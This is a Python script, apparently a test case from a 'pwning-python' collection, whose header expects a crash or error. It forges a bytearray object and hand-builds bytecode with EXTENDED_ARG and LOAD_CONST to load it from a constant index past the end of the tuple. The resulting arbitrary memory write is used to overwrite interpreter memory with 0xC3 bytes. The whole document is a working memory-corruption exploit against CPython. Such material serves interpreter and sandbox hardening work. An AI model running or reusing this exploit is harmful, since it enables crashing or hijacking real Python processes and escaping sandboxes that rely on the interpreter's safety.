# expect: crash | done | error SystemError | error ValueError | error TypeError | error IndexError
# idea: load a forged bytearray through a constant index beyond the end, and write with it over the interpreter's own code
# source: pwning-python
def word(number):
    return number.to_bytes(8, "little")


def tick(ctx):
    head = type(b"").__basicsize__ - 1
    kind = print.__self__.bytearray
    forged = word(1 << 20) + word(id(kind)) + word(2**40) * 2 + word(id(type) - 4_000_000) * 2 + word(0)
    pointer = word(id(forged) + head)
    # What the numbers of EXTENDED_ARG and LOAD_CONST are here, the 300th of many constants tells.
    wide = print.__self__.compile("x" + "".join(f" + 'c{n}'" for n in range(310)), "many", "eval").co_code
    place = next(n for n in range(0, len(wide), 2) if wide[n + 1] == 1 and wide[n + 3] == 43)
    extended, load = wide[place], wide[place + 2]
    code = (lambda: None).__code__.replace(co_consts=(None, "x"))
    index = (id(pointer) + head - id(code.co_consts) - tuple.__basicsize__) // 8
    if not -(2**31) < index < 2**31:
        print("the pointer lies out of reach")
        return
    parts = (index % 2**32).to_bytes(4, "big")
    body = type(b"")([extended, parts[0], extended, parts[1], extended, parts[2], load, parts[3]])
    fake = type(tick)(code.replace(co_code=code.co_code[:2] + body + wide[-2:]), {})()
    print(type(fake), len(fake))
    for place in range(0, 2**40, 2**12):
        fake[place] = 0xC3
